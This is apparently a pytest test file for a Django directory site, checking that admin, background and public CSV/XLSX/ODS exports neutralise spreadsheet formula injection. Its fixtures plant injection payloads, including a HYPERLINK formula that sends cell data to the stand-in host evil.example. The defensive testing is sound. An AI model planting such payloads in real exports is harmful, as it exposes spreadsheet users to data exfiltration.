"""No export writes a formula (issue 23): the payloads a visitor can plant through a
contribution (a description becomes an organisation's once accepted) come out as text on
every path — the admin's « Exporter la liste » (CSV, XLSX, ODS), its background job,
``export_directory`` and the public CSVs — and a CSV exported then imported changes
nothing."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from actions.models import Action
from actors.models import Organisation
from imports.service import export_file, real_querysets, run_import
from jobs.models import Job

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
PAYLOADS = {"name": "=2+5", "description": HYPERLINK}
CSV_PAYLOADS = ["+33 2 31", "-2+3", "@SUM(A1)", "\tindent", "\rretour"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def planted(directory):
    organisation = Organisation.objects.get(slug="coorace-basse-normandie")
    Organisation.objects.filter(pk=organisation.pk).update(
        **PAYLOADS, acronym=CSV_PAYLOADS[0], website="", phone=CSV_PAYLOADS[1],
    )
    action = Action.objects.filter(actor__is_demo=False).first()
    Action.objects.filter(pk=action.pk).update(title=CSV_PAYLOADS[2], description="\n".join(CSV_PAYLOADS[3:]))
    return organisation


def assert_xlsx_has_no_formula(content):
    book = openpyxl.load_workbook(io.BytesIO(content))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    # text stays the text that was typed, no quote added: the cell's type says « text »
    assert "=2+5" in values and HYPERLINK in values


def assert_ods_has_no_formula(content):
    xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()
    assert "formula" not in xml
    assert "=2+5" in xml and "=HYPERLINK(" in xml


def assert_csv_has_no_formula(text, delimiter=","):
    rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(TRIGGERS), repr(cell)
    assert "'=2+5" in cells and "'" + HYPERLINK in cells
    return rows


def check(suffix, content):
    if suffix == ".xlsx":
        assert_xlsx_has_no_formula(content)
    elif suffix == ".ods":
        assert_ods_has_no_formula(content)
    else:
        assert_csv_has_no_formula(content.decode("utf-8-sig"))


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".ods"])
def test_the_admin_list_export_writes_no_formula(planted, editor_client, suffix):
    response = editor_client.get(reverse("admin:imports_export"), {"type": "organisations", "format": suffix[1:]})
    assert response.status_code == 200
    check(suffix, response.content)


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_background_export_writes_no_formula(planted, editor_client, settings, suffix,
                                                 django_capture_on_commit_callbacks):  # fmt: skip
    settings.JOBS_EXPORT_ROWS = 3
    with django_capture_on_commit_callbacks(execute=True):
        editor_client.get(reverse("admin:imports_export"), {"type": "organisations", "format": suffix[1:]})
    job = Job.objects.get()
    assert job.state == Job.State.DONE and job.file_name.endswith(suffix)
    check(suffix, editor_client.get(reverse("admin:jobs_job_file", args=[job.pk])).content)


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".ods"])
def test_export_directory_writes_no_formula(planted, tmp_path, suffix):
    path = tmp_path / f"annuaire{suffix}"
    call_command("export_directory", str(path), stdout=io.StringIO())
    check(suffix, path.read_bytes())


@pytest.mark.django_db
def test_every_csv_trigger_is_neutralised_in_the_staff_csv(planted, tmp_path):
    for kind in ("organisations", "actions"):
        text = export_file("x.csv", kind=kind, querysets=real_querysets()).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
    organisations = export_file("x.csv", querysets=real_querysets()).decode("utf-8-sig")
    assert "'+33 2 31" in organisations and "'-2+3" in organisations


@pytest.mark.django_db
def test_a_neutralised_csv_imports_back_unchanged(planted):
    content = export_file("annuaire.csv", querysets=real_querysets())
    report = run_import("annuaire.csv", content, dry_run=True)
    assert not report.has_errors, report.as_text()
    sheet = report.sheets[0]
    assert sheet.created == sheet.updated == 0, report.as_text()


@pytest.mark.django_db
def test_the_public_csv_writes_no_formula(planted, client):
    response = client.get("/acteurs/", {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    coorace = next(r for r in rows if r["Fiche"].endswith("/acteurs/coorace-basse-normandie/"))
    assert coorace["Nom"] == "'=2+5"
    assert not [value for value in coorace.values() if value.startswith(TRIGGERS)]


@pytest.mark.parametrize("text", ["=2+5", "'=2+5", "''@x", "'quote", "-0.37", "Mutualité", "\rx"])
def test_read_cell_gives_back_what_safe_cell_protected(text):
    from common.csv import read_cell, safe_cell

    assert read_cell(safe_cell(text)) == text


@pytest.mark.django_db
def test_the_import_template_writes_no_formula(directory, editor_client):
    from actors.models import Sector

    Sector.objects.create(name="=2+5", slug="formule")
    response = editor_client.get(reverse("admin:imports_template"))
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert "=2+5" in [cell.value for cell in cells]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


@pytest.mark.django_db
def test_the_public_actions_csv_writes_no_formula(planted, client):
    from actions.exports import COLUMNS

    text = b"".join(client.get("/actions/", {"format": "csv"}).streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    free_text = {column.header for column in COLUMNS if column.type == "string"}
    cells = [value for row in rows for header, value in row.items() if header in free_text]
    assert "'@SUM(A1)" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
